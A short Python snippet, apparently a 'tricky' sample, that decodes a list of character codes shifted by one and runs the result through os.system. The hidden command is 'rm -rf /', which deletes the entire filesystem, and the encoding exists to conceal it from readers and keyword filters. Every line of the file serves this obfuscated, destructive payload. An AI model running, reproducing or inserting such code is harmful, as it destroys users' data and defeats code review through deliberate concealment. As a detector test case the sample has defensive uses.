# tricky: character codes shifted by one
import os
x = [115, 110, 33, 46, 115, 103, 33, 48]
os.system("".join(chr(c - 1) for c in x))
